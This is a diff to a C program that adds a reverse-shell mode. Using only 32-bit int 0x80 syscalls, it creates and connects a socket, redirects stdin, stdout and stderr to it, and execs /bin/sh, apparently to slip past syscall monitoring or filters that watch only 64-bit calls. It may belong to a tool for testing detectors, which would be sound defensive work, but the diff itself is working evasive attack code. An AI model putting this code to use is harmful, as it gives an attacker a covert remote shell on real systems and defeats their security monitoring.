@@ -11,6 +11,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mman.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
@@ -71,6 +72,42 @@ static long high_dup2(int from, int to)
 			 : "a"(1L << 32 | SYS_dup2), "D"((long)from), "S"((long)to)
 			 : "rcx", "r11", "memory");
 	return result;
+}
+
+/* The 32-bit entry of a 64-bit kernel; pointers have to lie below 4 GiB. */
+static long int80(long number, long a, long b, long c)
+{
+	long result;
+	__asm__ volatile("int $0x80"
+			 : "=a"(result)
+			 : "a"(number), "b"(a), "c"(b), "d"(c)
+			 : "r8", "r9", "r10", "r11", "memory");
+	return (int)result;
+}
+
+/* Makes, connects and redirects a socket with 32-bit calls alone, from a process that then goes on as
+ * a shell without another exec of ours in between. */
+static void all_by_int80(int use_socketcall)
+{
+	unsigned *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
+			     MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+	if (low == MAP_FAILED)
+		err(1, "mmap");
+	memcpy(low + 16, &address, length);
+	unsigned sockaddr = (unsigned)(unsigned long)(low + 16);
+	long fd;
+	if (use_socketcall) {
+		low[0] = address.any.sa_family, low[1] = SOCK_STREAM, low[2] = 0;
+		fd = int80(102, 1, (unsigned)(unsigned long)low, 0);
+		low[0] = fd, low[1] = sockaddr, low[2] = length;
+		check(int80(102, 3, (unsigned)(unsigned long)low, 0), 0);
+	} else {
+		fd = int80(359, address.any.sa_family, SOCK_STREAM, 0);
+		check(int80(362, fd, sockaddr, length), 0);
+	}
+	for (int to = 0; to <= 2; to++)
+		check(int80(63, fd, to, 0), to);
+	check(int80(6, fd, 0, 0), 0);
 }
 
 /* Empties a copy of the descriptor table; the process's own stays as it is. */
@@ -136,6 +173,10 @@ int main(int argc, char **argv)
 		}
 	}
 	int fd;
+	if (!strncmp(how, "int80", 5)) {
+		all_by_int80(!strcmp(how, "int80_socketcall"));
+		execl("/bin/sh", "sh", NULL);
+	}
 	if (accepting) {
 		fd = accept(listener(), NULL, NULL);
 	} else if (!strcmp(how, "direct")) {
